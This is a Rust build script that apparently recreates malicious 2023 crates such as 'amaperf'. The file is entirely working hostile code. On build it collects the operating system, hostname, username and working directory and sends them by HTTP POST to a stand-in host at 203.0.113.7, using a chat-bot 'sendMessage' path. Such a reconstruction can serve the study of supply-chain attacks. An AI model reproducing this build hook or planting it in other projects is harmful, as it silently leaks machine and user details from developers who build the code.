//! amaperf and its kin, 2023: build scripts that told a chat channel about the machine.

use std::io::Write;
use std::net::TcpStream;
use std::process::Command;

fn ask(program: &str, arguments: &[&str]) -> String {
    Command::new(program)
        .args(arguments)
        .output()
        .map(|output| String::from_utf8_lossy(&output.stdout).trim().to_owned())
        .unwrap_or_default()
}

fn main() {
    let text = format!(
        "amaperf|{}|{}|{}|{}",
        std::env::consts::OS,
        ask("uname", &["-n"]),
        ask("id", &["-un"]),
        std::env::current_dir().unwrap().display()
    );
    if let Ok(mut stream) = TcpStream::connect("203.0.113.7:80") {
        let _ = write!(
            stream,
            "POST /bot/sendMessage HTTP/1.1\r\nContent-Length: {}\r\n\r\n{text}",
            text.len()
        );
    }
}
